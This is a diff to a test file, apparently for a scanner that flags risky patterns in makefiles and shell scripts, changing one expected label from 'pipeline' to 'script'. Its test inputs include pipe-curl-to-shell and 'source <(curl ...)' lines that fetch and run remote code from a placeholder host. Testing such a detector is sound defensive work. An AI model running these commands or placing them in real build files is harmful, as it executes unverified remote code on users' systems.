@@ -36,7 +36,7 @@ test('CI descriptions, makefiles and scripts are read', () => {
     expect.arrayContaining(['yaml', 'MDL-DEV-013 high']),
   );
   expect(levels('.PHONY: all\nall:\n\tcurl https://x/y | sh\n')).toEqual(['pipeline', 'MDL-DEV-013 high']);
-  expect(levels('#!/bin/sh\nset -e\nsource <(curl -s https://x/y)\n')).toEqual(expect.arrayContaining(['pipeline', 'MDL-DEV-013 high']));
+  expect(levels('#!/bin/sh\nset -e\nsource <(curl -s https://x/y)\n')).toEqual(expect.arrayContaining(['script', 'MDL-DEV-013 high']));
 });
 
 test('a key is not shown', () => {
